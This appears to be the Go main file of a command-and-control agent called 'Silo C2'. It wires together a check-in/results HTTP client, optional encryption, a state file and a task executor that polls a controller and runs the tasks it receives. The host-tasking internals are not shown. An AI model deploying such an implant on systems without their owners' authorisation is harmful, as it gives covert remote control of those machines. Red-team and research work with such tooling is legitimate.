package main

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"syscall"

	"github.com/EternisAI/silo-c2/internal/agent"
	"github.com/EternisAI/silo-c2/internal/agentstate"
	"github.com/EternisAI/silo-c2/internal/envelope"
	"github.com/EternisAI/silo-c2/internal/executor"
	"github.com/EternisAI/silo-c2/internal/transport"
)

var AppVersion string

func main() {
	InitConfig()

	slog.Info("Silo C2 Agent", "version", AppVersion)

	runner, err := newRunner()
	if err != nil {
		slog.Error("Invalid agent configuration", "error", err)
		os.Exit(1)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	if len(os.Args) > 1 && os.Args[1] == "once" {
		outcome := runner.RunOnce(ctx)
		slog.Info("Single iteration finished", "outcome", outcome)
		return
	}

	if err := runner.Run(ctx); err != nil {
		slog.Error("Agent loop failed", "error", err)
		os.Exit(1)
	}
	slog.Info("Shutdown complete")
}

func newRunner() (*agent.Runner, error) {
	if config.C2.CheckinURL == "" {
		return nil, fmt.Errorf("c2.checkin_url is required")
	}
	if config.C2.ResultsURL == "" {
		return nil, fmt.Errorf("c2.results_url is required")
	}

	var env *envelope.Envelope
	if config.Crypto.Key != "" {
		var err error
		env, err = envelope.New(config.Crypto.Key, envelope.WithTTL(config.Crypto.TTL))
		if err != nil {
			return nil, err
		}
		slog.Info("Encrypted mode enabled")
	}

	state := agentstate.NewFileStore(config.Agent.StateFile)
	client := transport.NewClient(config.C2.CheckinURL, config.C2.ResultsURL, config.C2.HTTPTimeout)
	exec := executor.New(config.Agent.TaskTimeout)

	return agent.NewRunner(agent.Config{
		Interval:      config.C2.SleepInterval,
		Envelope:      env,
		MaxOutputSize: config.Agent.MaxOutputSize,
	}, state, client, exec, agent.SystemHostInfo), nil
}
